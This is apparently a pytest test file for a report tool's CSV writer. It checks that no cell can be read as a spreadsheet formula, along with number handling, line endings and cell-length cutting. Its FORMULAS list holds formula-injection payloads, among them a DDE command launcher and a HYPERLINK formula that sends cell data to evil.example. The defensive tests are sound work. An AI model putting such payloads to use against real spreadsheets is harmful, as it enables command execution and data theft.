"""The table of comma-separated values: a row a finding, and nothing in it that a spreadsheet obeys."""

from __future__ import annotations

import csv
import io
from collections import Counter
from dataclasses import replace

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from arcanos.findings import Outcome
from arcanos.readers.csv import read_csv
from arcanos.record import Coverage, Record
from arcanos.reports.report import Report
from arcanos.reports.tables.cells import LONGEST, inert, text_cell
from arcanos.reports.tables.columns import COLUMNS
from arcanos.reports.tables.csv_table import to_bytes

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\r\n@A1",
    "\u00a0=1+1",
    "'=1+1",
    '"=1+1',
    "\uff1d1+1",
    "harmless;=1+1",
    'harmless; "=1+1',
]


def rows(record: Record) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(to_bytes(Report(record)).decode(), newline=""), strict=True))


def begins_a_formula(text: str) -> bool:
    return text.lstrip(' \t\r\n\u00a0"')[:1] in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def with_text(record: Record, text: str) -> Record:
    found = tuple(
        replace(f, subject=text, message=text, owner=text, title=text, controls=(text,)) for f in record.findings
    )
    return replace(record, project=text, findings=found)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_a_text_wherever_the_separator_is(text: str, record: Record) -> None:
    data = to_bytes(Report(with_text(record, text))).decode()
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(data, newline=""), delimiter=separator):
            assert not [cell for cell in row if begins_a_formula(cell)]


@given(st.text(st.sampled_from("=+-@;\"' \t\r\na1.\uff1d")))
def test_no_text_begins_a_formula_unless_it_is_a_number(text: str) -> None:
    for cell in inert(text).split(";"):
        if begins_a_formula(cell):
            float(cell)


@pytest.mark.parametrize("text", ["-5", "+0.3", "12", "-1.5e-07"])
def test_a_number_stays_a_number(text: str) -> None:
    assert inert(text) == text


def test_a_reader_sees_numbers_days_and_empty_cells_as_what_they_are(record: Record) -> None:
    table = pd.read_csv(io.BytesIO(to_bytes(Report(record))))
    assert list(table.columns) == [column.name for column in COLUMNS]
    assert table["exit_code"].dtype.kind == "i"
    assert table["places"].dtype.kind == "i"
    assert table["line"].dropna().tolist() == [14, 14]
    due = {f.due.isoformat() for f in record.findings if f.due}
    assert set(table["due"].dropna()) == due


def test_each_row_ends_with_cr_lf_and_has_all_columns(record: Record) -> None:
    data = to_bytes(Report(with_text(record, "a\nb\rc\u2028d")))
    assert data.endswith(b"\r\n")
    assert data.count(b"\r") == data.count(b"\n") == data.count(b"\r\n") == len(record.findings) + 1
    assert len(read_csv(data, "record.csv").value) == len(record.findings)


def test_the_first_column_is_called_by_its_name_because_there_is_no_byte_order_mark(record: Record) -> None:
    assert to_bytes(Report(record)).startswith(b'"project"')


def test_a_run_without_findings_still_says_what_was_decided(record: Record) -> None:
    empty = replace(record, findings=(), coverage=Coverage.of(0, ()))
    (row,) = rows(empty)
    assert (row["verdict"], row["exit_code"]) == ("CLOSED (exit 1): a rule failed", "1")
    assert row["message"] == "this record has no finding"
    assert not row["outcome"]


def test_what_does_not_decide_is_a_row_that_says_so(record: Record) -> None:
    effects = Counter(row["effect"] for row in rows(record))
    assert effects == {
        "closes": 3,
        "about another model": 1,
        "waived": 1,
        "closes later": 1,
        "retired": 1,
        "none": 2,
    }


def test_a_cell_longer_than_excel_takes_is_cut_and_says_so() -> None:
    for text in ("x" * 100_000, "\U0001f600" * 20_000):
        shown = text_cell(text)
        assert len(shown.encode("utf-16-le")) // 2 <= LONGEST
        assert shown.endswith(f" [cut: {len(text)} characters; the record has them all]")
        assert shown[0] == text[0]
    assert text_cell("\U0001f600" * 16_383) == "\U0001f600" * 16_383


def test_any_record_gives_a_table_with_its_totals(records: st.SearchStrategy[Record]) -> None:
    @given(records)
    def holds(record: Record) -> None:
        table = read_csv(to_bytes(Report(record)), "record.csv").value
        counts = Counter(row["outcome"] for row in table if row["outcome"])
        assert {outcome: counts[str(outcome)] for outcome in Outcome} == dict(record.coverage.outcomes)
        assert len(table) == max(1, len(record.findings))
        prints = [row["fingerprint"] for row in table if row["fingerprint"]]
        assert sorted(prints) == sorted(f.fingerprint for f in record.findings)

    holds()
